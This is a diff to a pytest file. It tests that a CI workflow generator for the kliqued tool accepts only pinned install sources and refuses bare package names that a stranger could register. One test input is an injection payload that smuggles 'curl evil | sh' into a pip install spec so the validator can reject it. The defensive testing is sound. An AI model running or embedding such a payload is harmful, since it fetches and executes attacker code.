@@ -13,8 +13,12 @@ from pathlib import Path
 import pytest
 from ruamel.yaml import YAML
 
+from kliqued.ci import install
 from kliqued.ci.workflows import GITHUB_PATH, GITLAB_PATH
 from kliqued.cli import build_parser, main
+
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+PINNED = ["--install", f"git+https://git.example.org/platform/klique.git@{COMMIT}"]
 
 
 def actionlint() -> str:
@@ -38,15 +42,15 @@ def kliqued_lines(script: str) -> list[list[str]]:
 
 
 def test_github_workflow_passes_actionlint(tmp_path, capsys) -> None:
-    assert main(["ci", "init", "github", "--repo", str(tmp_path)]) == 0
+    assert main(["ci", "init", "github", "--repo", str(tmp_path), *PINNED]) == 0
     path = tmp_path / GITHUB_PATH
     done = subprocess.run([actionlint(), "-no-color", str(path)], capture_output=True,
                           text=True)
     assert done.returncode == 0, done.stdout + done.stderr
     # Written once; a second init keeps the file unless --force.
-    assert main(["ci", "init", "github", "--repo", str(tmp_path)]) == 1
+    assert main(["ci", "init", "github", "--repo", str(tmp_path), *PINNED]) == 1
     assert "exists; --force replaces it" in capsys.readouterr().err
-    assert main(["ci", "init", "github", "--repo", str(tmp_path), "--force",
+    assert main(["ci", "init", "github", "--repo", str(tmp_path), "--force", *PINNED,
                  "--estate-path", "clusters/estate", "--since", "28d"]) == 0
     text = path.read_text()
     assert '"clusters/estate/**"' in text and '--since "28d"' in text
@@ -54,7 +58,7 @@ def test_github_workflow_passes_actionlint(tmp_path, capsys) -> None:
 
 
 def test_the_workflow_validates_plans_with_the_what_if_comments_and_fails_on_1(tmp_path) -> None:
-    main(["ci", "init", "github", "--repo", str(tmp_path)])
+    main(["ci", "init", "github", "--repo", str(tmp_path), *PINNED])
     wf = YAML(typ="safe").load((tmp_path / GITHUB_PATH).read_text())
     job = wf["jobs"]["plan"]
     assert job["env"]["KLIQUE_TOKEN"] == "${{ secrets.KLIQUE_PLANNER_TOKEN }}"
@@ -72,7 +76,7 @@ def test_the_workflow_validates_plans_with_the_what_if_comments_and_fails_on_1(t
 
 
 def test_gitlab_job(tmp_path) -> None:
-    assert main(["ci", "init", "gitlab", "--repo", str(tmp_path)]) == 0
+    assert main(["ci", "init", "gitlab", "--repo", str(tmp_path), *PINNED]) == 0
     ci = YAML(typ="safe").load((tmp_path / GITLAB_PATH).read_text())
     job = ci["klique-plan"]
     script = "\n".join(job["script"])
@@ -82,3 +86,80 @@ def test_gitlab_job(tmp_path) -> None:
     for argv in commands:
         parser.parse_args(argv[1:])
     assert job["rules"][0]["if"] == '$CI_PIPELINE_SOURCE == "merge_request_event"'
+
+
+# --- what the job installs: a pinned source, never a bare name (issue 25, item 9) ---------
+
+@pytest.mark.parametrize("forge,path", [("github", GITHUB_PATH), ("gitlab", GITLAB_PATH)])
+@pytest.mark.parametrize("bare", ["klique", "klique==0.1.0", "klique>=0.1", "klique[ec2]",
+                                  "Klique ~= 0.1"])
+def test_a_bare_package_name_is_refused(tmp_path, capsys, forge, path, bare) -> None:
+    """Nobody from the organisation owns ``klique`` on a public index: whoever registers it
+    would run code in a job holding the planner token. Refused, nothing written."""
+    assert main(["ci", "init", forge, "--repo", str(tmp_path), "--install", bare]) == 2
+    err = capsys.readouterr().err
+    assert "public index" in err and "git URL at a commit" in err
+    assert not (tmp_path / path).exists()
+
+
+@pytest.mark.parametrize("spec,why", [
+    ("git+https://git.example.org/platform/klique.git", "names no commit or tag"),
+    ("git+https://git.example.org/platform/klique.git@", "empty"),
+    ('git+https://x.org/k.git@v1"; curl evil | sh; "', "quote, a space"),
+    ("git+ftp://x.org/k.git@v1", "scheme"),
+    ("", "empty"),
+])
+def test_an_unpinned_or_unsafe_source_is_refused(spec, why) -> None:
+    with pytest.raises(install.InstallError, match=why):
+        install.parse(spec)
+
+
+def test_without_install_a_local_kliqued_gives_no_default(tmp_path, capsys) -> None:
+    """This checkout's kliqued is an editable install: nothing CI can pin, so --install is
+    asked for rather than a name guessed."""
+    assert main(["ci", "init", "github", "--repo", str(tmp_path)]) == 2
+    assert "--install is needed" in capsys.readouterr().err
+    assert not (tmp_path / GITHUB_PATH).exists()
+
+
+@pytest.mark.parametrize("forge,path", [("github", GITHUB_PATH), ("gitlab", GITLAB_PATH)])
+@pytest.mark.parametrize("spec,kind", [
+    (f"git+https://git.example.org/platform/klique.git@{COMMIT}", "git commit"),
+    (f"klique[ec2] @ git+ssh://git@git.example.org/platform/klique.git@{COMMIT}", "git commit"),
+    ("tools/klique-0.1.0-py3-none-any.whl", "wheel"),
+    ("https://files.example.org/klique-0.1.0-py3-none-any.whl#sha256=" + "a" * 64, "wheel"),
+])
+def test_a_pinned_source_is_installed_and_said_so(tmp_path, forge, path, spec, kind) -> None:
+    assert main(["ci", "init", forge, "--repo", str(tmp_path), "--install", spec]) == 0
+    text = (tmp_path / path).read_text()
+    assert f'pip install "{spec}"' in text
+    comment = " ".join(line.strip().lstrip("# ") for line in text.splitlines()
+                       if line.strip().startswith("#"))
+    assert f"pins ({kind}" in comment and "never a bare package name" in comment
+    assert 'pip install "klique"' not in text
+    if forge == "github":
+        done = subprocess.run([actionlint(), "-no-color", str(tmp_path / path)],
+                              capture_output=True, text=True)
+        assert done.returncode == 0, done.stdout + done.stderr
+
+
+def test_a_tag_is_accepted_with_a_note_that_it_can_move(tmp_path, capsys) -> None:
+    spec = "git+https://git.example.org/platform/klique.git@v0.1.0"
+    assert main(["ci", "init", "github", "--repo", str(tmp_path), "--install", spec]) == 0
+    assert "can be moved; a commit hash pins exactly" in capsys.readouterr().err
+
+
+def test_the_default_is_the_commit_or_wheel_this_kliqued_came_from() -> None:
+    """pip's PEP 610 record of this kliqued: a git install pins its commit, a wheel its URL
+    and hash; an editable or index install gives nothing to pin."""
+    git = install.from_direct_url({"url": "https://git.example.org/platform/klique.git",
+                                   "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
+    assert git is not None and git.spec.endswith(f"klique.git@{COMMIT}")
+    assert git.kind == "git commit"
+    wheel = install.from_direct_url({"url": "https://f.example.org/klique-0.1.0-py3-none-any.whl",
+                                     "archive_info": {"hashes": {"sha256": "b" * 64}}})
+    assert wheel is not None and wheel.spec.endswith(".whl#sha256=" + "b" * 64)
+    assert install.from_direct_url({"url": "file:///src/klique",
+                                    "dir_info": {"editable": True}}) is None
+    assert install.from_direct_url(None) is None
+
